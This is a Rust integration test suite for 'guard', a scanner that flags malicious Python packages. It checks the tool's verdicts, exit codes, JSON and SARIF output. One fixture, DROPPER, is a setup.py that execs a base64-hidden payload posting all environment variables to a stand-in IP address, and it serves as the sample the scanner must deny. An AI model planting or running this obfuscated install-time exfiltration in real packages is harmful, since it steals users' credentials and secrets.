//! `guard scan` as a user runs it: the real binary, files built per test,
//! checked against CONTRACT.md (fields, verdicts, exit codes).

mod common;

use common::artifacts;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::Value;

fn guard(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_guard"))
        .args(args)
        .env("NO_COLOR", "1")
        .output()
        .expect("guard runs")
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, bytes).unwrap();
    p
}

fn scan_json(paths: &[&Path]) -> (i32, Value) {
    let mut args = vec!["scan", "--format", "json"];
    let strs: Vec<String> = paths.iter().map(|p| p.display().to_string()).collect();
    args.extend(strs.iter().map(String::as_str));
    let out = guard(&args);
    let doc: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("stdout is JSON ({e}): {}", String::from_utf8_lossy(&out.stdout)));
    (out.status.code().unwrap(), doc)
}

const DROPPER: &str = "import base64, os\nfrom setuptools import setup\n\
exec(base64.b64decode('aW1wb3J0IG9zLCByZXF1ZXN0cwpyZXF1ZXN0cy5wb3N0KCdodHRwOi8vMTk4LjUxLjEwMC43L2MnLCBkYXRhPWRpY3Qob3MuZW52aXJvbikpCg=='))\n\
setup(name='foo', version='1.0')\n";

#[test]
fn json_matches_contract_for_clean_and_malicious() {
    let dir = tempfile::tempdir().unwrap();
    let clean = write(
        dir.path(),
        "clean-1.0-py3-none-any.whl",
        &artifacts::wheel_files(
            "clean",
            "1.0",
            &[("clean/__init__.py", b"def add(a, b):\n    return a + b\n")],
        ),
    );
    let bad = write(
        dir.path(),
        "foo-1.0.tar.gz",
        &artifacts::sdist_files("foo", "1.0", &[("setup.py", DROPPER)]),
    );
    let (code, doc) = scan_json(&[&clean, &bad]);
    assert_eq!(code, 1, "a deny makes the exit status 1");
    assert_eq!(doc["schema"], 1);
    let arts = doc["artifacts"].as_array().unwrap();
    assert_eq!(arts.len(), 2);
    for a in arts {
        for key in ["path", "name", "version", "sha256", "verdict", "findings"] {
            assert!(a.get(key).is_some(), "artifact lacks `{key}`: {a}");
        }
        assert_eq!(a["sha256"].as_str().unwrap().len(), 64);
    }
    let clean_a = arts.iter().find(|a| a["name"] == "clean").unwrap();
    assert_eq!(clean_a["verdict"], "allow");
    assert_eq!(clean_a["version"], "1.0");
    assert_eq!(clean_a["path"], clean.display().to_string());
    let bad_a = arts.iter().find(|a| a["name"] == "foo").unwrap();
    assert_eq!(bad_a["verdict"], "deny");
    let f = &bad_a["findings"][0];
    for key in ["rule", "severity", "file", "line", "message", "snippet"] {
        assert!(f.get(key).is_some(), "finding lacks `{key}`: {f}");
    }
    assert_eq!(f["severity"], "critical");
    assert_eq!(f["file"], "foo-1.0/setup.py");
    assert_eq!(f["line"], 3);
    let rules: Vec<&str> = bad_a["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    assert!(rules.contains(&"exec-decoded-payload"), "{rules:?}");
    assert!(
        rules.contains(&"exfiltration"),
        "decoded payload is inspected too: {rules:?}"
    );
    let summary = &doc["summary"];
    assert_eq!(
        (
            summary["allow"].as_u64(),
            summary["review"].as_u64(),
            summary["deny"].as_u64()
        ),
        (Some(1), Some(0), Some(1))
    );
    assert!(summary["seconds"].as_f64().unwrap() >= 0.0);
}

#[test]
fn all_allow_exits_zero_and_directories_are_searched() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("sub")).unwrap();
    write(
        &dir.path().join("sub"),
        "ok-2.0-py3-none-any.whl",
        &artifacts::wheel_files("ok", "2.0", &[("ok/__init__.py", b"VERSION = '2.0'\n")]),
    );
    write(dir.path(), "notes.txt", b"not an artifact");
    let (code, doc) = scan_json(&[dir.path()]);
    assert_eq!(code, 0);
    let arts = doc["artifacts"].as_array().unwrap();
    assert_eq!(arts.len(), 1, "only artifacts are scanned");
    assert!(arts[0]["path"]
        .as_str()
        .unwrap()
        .ends_with("sub/ok-2.0-py3-none-any.whl"));
}

#[test]
fn truncated_archive_is_denied() {
    let dir = tempfile::tempdir().unwrap();
    let full = artifacts::sdist_files("cut", "1.0", &[("setup.py", "from setuptools import setup\nsetup()\n")]);
    let cut = write(dir.path(), "cut-1.0.tar.gz", &full[..full.len() / 2]);
    let (code, doc) = scan_json(&[&cut]);
    assert_eq!(code, 1);
    let a = &doc["artifacts"][0];
    assert_eq!(a["verdict"], "deny");
    assert_eq!(a["findings"][0]["rule"], "unreadable-archive");
    assert_eq!(a["name"], "cut", "name falls back to the file name");
}

#[test]
fn missing_path_is_a_usage_error() {
    let out = guard(&["scan", "/definitely/not/here.whl"]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("error:") && err.contains("/definitely/not/here.whl"),
        "{err}"
    );
    assert!(out.stdout.is_empty());
}

#[test]
fn non_artifact_file_is_a_usage_error() {
    let dir = tempfile::tempdir().unwrap();
    let p = write(dir.path(), "readme.md", b"# hi");
    let out = guard(&["scan", p.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not a Python artifact"));
}

#[test]
fn sarif_is_valid_2_1_0() {
    let dir = tempfile::tempdir().unwrap();
    let bad = write(
        dir.path(),
        "foo-1.0.tar.gz",
        &artifacts::sdist_files("foo", "1.0", &[("setup.py", DROPPER)]),
    );
    let out = guard(&["scan", "--format", "sarif", bad.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["version"], "2.1.0");
    let run = &doc["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    assert!(rules.len() >= 20);
    let results = run["results"].as_array().unwrap();
    assert!(!results.is_empty());
    for r in results {
        let idx = r["ruleIndex"].as_u64().unwrap() as usize;
        assert_eq!(rules[idx]["id"], r["ruleId"]);
        assert!(["note", "warning", "error"].contains(&r["level"].as_str().unwrap()));
        let loc = &r["locations"][0]["physicalLocation"];
        assert!(loc["artifactLocation"]["uri"]
            .as_str()
            .unwrap()
            .contains("foo-1.0.tar.gz/"));
        if let Some(line) = loc["region"]["startLine"].as_u64() {
            assert!(line >= 1);
        }
    }
}

#[test]
fn human_output_names_verdict_rule_and_line() {
    let dir = tempfile::tempdir().unwrap();
    let bad = write(
        dir.path(),
        "foo-1.0.tar.gz",
        &artifacts::sdist_files("foo", "1.0", &[("setup.py", DROPPER)]),
    );
    let out = guard(&["scan", bad.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("DENY"), "{text}");
    assert!(text.contains("exec-decoded-payload"), "{text}");
    assert!(text.contains("foo-1.0/setup.py:3"), "{text}");
    assert!(
        !text.contains('\x1b'),
        "no colour when NO_COLOR is set or not a terminal"
    );
}

#[test]
fn rules_and_explain_cover_every_rule() {
    let out = guard(&["rules"]);
    assert_eq!(out.status.code(), Some(0));
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let ids: Vec<&str> = text.lines().map(|l| l.split_whitespace().next().unwrap()).collect();
    assert!(ids.len() >= 20, "{ids:?}");
    for id in &ids {
        let out = guard(&["explain", id]);
        assert_eq!(out.status.code(), Some(0), "explain {id}");
        let doc = String::from_utf8_lossy(&out.stdout);
        assert!(
            doc.contains("## What it does") && doc.contains("## Example"),
            "{id}: {doc}"
        );
    }
    let out = guard(&["explain", "no-such-rule"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("unknown rule"));
}

#[test]
fn policy_can_disable_a_rule_and_bad_policy_is_located() {
    let dir = tempfile::tempdir().unwrap();
    let bad = write(
        dir.path(),
        "foo-1.0.tar.gz",
        &artifacts::sdist_files("foo", "1.0", &[("setup.py", DROPPER)]),
    );
    let policy = write(
        dir.path(),
        "p.toml",
        b"[[allow]]\nname = \"Foo\"\nreason = \"our own test package\"\n",
    );
    let out = guard(&[
        "scan",
        "--format",
        "json",
        "--policy",
        policy.to_str().unwrap(),
        bad.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let broken = write(dir.path(), "broken.toml", b"[verdict]\ndeny_at = \"severe\"\n");
    let out = guard(&["scan", "--policy", broken.to_str().unwrap(), bad.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("broken.toml:2:"), "{err}");
}

/// Issue 14: the ids the policy and the plan give findings are explained too
/// (`guard explain policy-sdist` said "unknown rule").
#[test]
fn explain_knows_policy_and_plan_finding_ids() {
    for id in [
        "policy-sdist",
        "policy-deny",
        "policy-min-release-age",
        "inspected-hash-mismatch",
    ] {
        let out = guard(&["explain", id]);
        assert_eq!(
            out.status.code(),
            Some(0),
            "explain {id}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let doc = String::from_utf8_lossy(&out.stdout);
        assert!(doc.starts_with(&format!("# {id} (")), "{doc}");
        assert!(
            doc.contains("## What it does") && doc.contains("## Example"),
            "{id}: {doc}"
        );
    }
}
